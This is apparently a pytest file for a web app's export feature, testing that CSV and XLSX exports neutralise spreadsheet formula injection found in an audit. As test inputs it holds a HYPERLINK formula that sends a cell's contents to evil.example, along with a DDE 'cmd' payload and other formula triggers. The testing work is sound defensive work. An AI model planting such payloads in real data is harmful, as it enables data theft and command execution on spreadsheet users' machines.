"""Exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection),
keeping the visible text: CSV cells get a leading quote; XLSX cells are strings with the
quote-prefix style, never formulas.

The audit's attack: a site posted a need titled =HYPERLINK("http://…/?x="&A1, …); the
prefecture's XLSX export carried it as a live formula that sends a cell to another site
when clicked, and the CSV carried it raw."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from models import Match
from service.spreadsheet_safety import FORMULA_TRIGGERS, is_dangerous, neutralise, restore
from service.usecases.imports import ImportResult, import_file, write_report
from service.usecases.imports.reading import read_table
from service.usecases.tabular import write_csv, write_xlsx
from tests.http_fixtures import Login
from tests.service.helpers import first_candidate, post_need

TEMPLATES = Path(__file__).resolve().parents[2] / "seed" / "templates"
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
PAYLOADS = [
    ATTACK,
    "+SUM(1,2)核桃技术指导",
    "-2+3 核桃技术指导培训",
    "@SUM(1)核桃技术指导",
    "\t=1+1 核桃技术指导",
    "\r=1+1 核桃技术指导",
]


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> list[tuple[object, str, bool]]:
    book = load_workbook(io.BytesIO(body))
    sheet = book.worksheets[0]
    return [
        (cell.value, cell.data_type, bool(cell.quotePrefix))
        for row in sheet.iter_rows()
        for cell in row
    ]


def _no_formula_in(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)


def test_need_titles_export_inert_in_csv_and_xlsx(client: TestClient, login: Login) -> None:
    staff = login("site1")
    titles = [post_need(client, staff, title=title)["title"] for title in PAYLOADS]
    zhou = login("zhou")

    rows = _csv_rows(client.get("/exports/needs.csv", headers=zhou).content)
    exported = {r["标题(title)"] for r in rows}
    for title in titles:
        assert "'" + title in exported, title
        assert title not in exported
    for row in rows:
        assert not any(is_dangerous(value) for value in row.values())

    body = client.get("/exports/needs.xlsx", headers=zhou).content
    _no_formula_in(body)
    cells = _xlsx_cells(body)
    for title in titles:
        found = [c for c in cells if c[0] == title]
        assert found, f"{title!r} keeps its visible text in the workbook"
        assert found[0][1] == "s" and found[0][2], "a quote-prefixed string, not a formula"


def test_matches_export_is_inert_too(client: TestClient, login: Login, session: Session) -> None:
    staff = login("site1")
    need = post_need(client, staff, title=ATTACK)
    talent = first_candidate(client, staff, need["id"])["talent"]
    made = client.post(
        "/api/v1/matches", json={"need_id": need["id"], "talent_id": talent["id"]}, headers=staff
    )
    assert made.status_code == 201, made.text
    assert session.get(Match, made.json()["id"]) is not None
    zhou = login("zhou")
    rows = _csv_rows(client.get("/exports/matches.csv", headers=zhou).content)
    assert "'" + ATTACK in {r["需求标题(need_title)"] for r in rows}
    body = client.get("/exports/matches.xlsx", headers=zhou).content
    _no_formula_in(body)
    assert any(c[0] == ATTACK and c[1] == "s" for c in _xlsx_cells(body))


def test_progress_export_goes_through_the_same_writer(client: TestClient, login: Login) -> None:
    zhou = login("zhou")
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/api/v1/programmes/progress.{fmt}", headers=zhou)
        assert response.status_code == 200
        if fmt == "xlsx":
            _no_formula_in(response.content)
        else:
            for row in _csv_rows(response.content):
                assert not any(is_dangerous(v) for v in row.values())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_export_imports_back_unchanged(
    client: TestClient, login: Login, session: Session, tmp_path: Path, payload: str
) -> None:
    """The quote is for the spreadsheet, not the data: re-importing an exported file
    leaves the title as it was."""
    post_need(client, login("site1"), title=payload)
    body = client.get("/exports/needs.csv", headers=login("zhou")).content
    path = tmp_path / "needs.csv"
    path.write_bytes(body)
    result = import_file("needs", path, session=session, dry_run=True)
    assert result.ok, [e.line() for e in result.errors]
    assert result.created == 0 and result.updated == 0


def test_import_error_report_is_inert(tmp_path: Path, session: Session) -> None:
    """The importer's CSV report quotes the offending cell values back."""
    template = (TEMPLATES / "needs.csv").read_text(encoding="utf-8").splitlines()
    header, first = template[0], template[1].split(",")
    first[header.split(",").index("单位编号(site_external_id)")] = "=1+1"
    source = tmp_path / "needs.csv"
    source.write_text(header + "\n" + ",".join(first) + "\n", encoding="utf-8")
    result: ImportResult = import_file("needs", source, session=session, dry_run=True)
    assert not result.ok
    out = io.StringIO()
    write_report(result, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'=1+1" in cells
    assert not any(is_dangerous(cell) for cell in cells)


def test_the_writers_neutralise_every_trigger_and_keep_numbers(tmp_path: Path) -> None:
    rows = [[f"{t}cmd|' /C calc'!A0", -3, 2.5, "-7", "+1.5", "普通文字"] for t in FORMULA_TRIGGERS]
    out = io.StringIO()
    write_csv(["a", "b", "c", "d", "e", "f"], rows, out)
    for line in list(csv.reader(io.StringIO(out.getvalue())))[1:]:
        assert line[0].startswith("'")
        assert line[1:] == ["-3", "2.5", "-7", "+1.5", "普通文字"]
    table = read_table(out.getvalue().encode(), "x.csv")
    assert [cells[0] for _, cells in table.rows] == [neutralise(r[0])[1:].strip() for r in rows]
    assert restore(neutralise(ATTACK)) == ATTACK

    path = tmp_path / "x.xlsx"
    write_xlsx(["a", "b"], [[ATTACK, -3]], path)
    _no_formula_in(path.read_bytes())
    cells = _xlsx_cells(path.read_bytes())
    assert (ATTACK, "s", True) in cells
    assert (-3, "n", False) in cells


def test_control_characters_never_break_a_workbook(tmp_path: Path) -> None:
    """Found by the fuzz test on PostgreSQL: ``progress.xlsx?county=%1F`` answered 500,
    because a worksheet cannot hold control characters and openpyxl refused the file."""
    target = tmp_path / "out.xlsx"
    write_xlsx(["county", "note"], [["\x1f", "行\x01一\x0b二"]], target)
    from openpyxl import load_workbook

    sheet = load_workbook(target).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == [None, "行一二"]
